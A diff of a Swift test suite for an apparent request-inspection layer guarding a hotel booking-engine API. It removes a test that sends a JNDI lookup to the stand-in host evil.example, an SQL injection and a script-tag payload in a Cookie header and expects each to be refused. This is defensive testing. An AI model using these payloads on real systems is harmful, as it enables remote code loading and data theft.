@@ -46,29 +46,6 @@ import Testing
 
     private static func query(_ text: String) -> TestRequest { .get("/api/booking-engine/availability?\(text)") }
 
-    private static let restrictions: String = {
-        let one =
-            #"{"room_type_id":21,"start_date":"2027-01-01","end_date":"2027-02-01","weekdays":["monday","tuesday","#
-            + #""wednesday","friday"],"minimum_nights":2,"maximum_nights":14,"closed_to_arrival":true,"#
-            + #""closed_to_departure":false,"stop_sell":false}"#
-        return #"{"restrictions":[\#(Array(repeating: one, count: 300).joined(separator: ","))],"overbooking":[]}"#
-    }()
-
-    @Test(
-        "Around restrictions, whose content is not taken apart, attacks are refused as elsewhere",
-        arguments: EngineKind.allCases)
-    func around(kind: EngineKind) throws {
-        let path = "/api/booking-engine/hotels/12/restrictions"
-        for attack in ["${jndi:ldap://evil.example/a}", "' OR 1=1 --", "<script>alert(1)</script>"] {
-            var request = TestRequest.json(Self.restrictions, .put, path)
-            request.fields.append(("Cookie", "name=\(attack)"))
-            #expect(try kind.inspect(request.request).refusal == .forbidden, "\(attack)")
-        }
-        // Only there.
-        let elsewhere = TestRequest.json(Self.restrictions, .put, path + "/more")
-        #expect(try kind.inspect(elsewhere.request).refusal == .forbidden)
-    }
-
     static let ordinary: [TestRequest] =
         names.map { booking(name: $0).called("name: \($0)") }
         + comments.map { booking(comment: $0).called("comment: \($0.prefix(60))") }
@@ -105,7 +82,6 @@ import Testing
             .get(
                 "/api/booking-engine/hotels/1/pricing?start_date=2026-12-01&end_date=2026-12-03&plan_key=1h5&guests=2"),
             .json(#"{"hotel_ids":["1",2]}"#, .post, "/api/booking-engine/cache/update-hotels"),
-            .json(restrictions, .put, "/api/booking-engine/hotels/12/restrictions").called("300 restrictions"),
             .json(
                 #"{"hotel_id":"1","room_type_id":11,"start_date":"2026-12-01","end_date":"2026-12-20"}"#, .post,
                 "/api/booking-engine/cache/refresh-availability"),
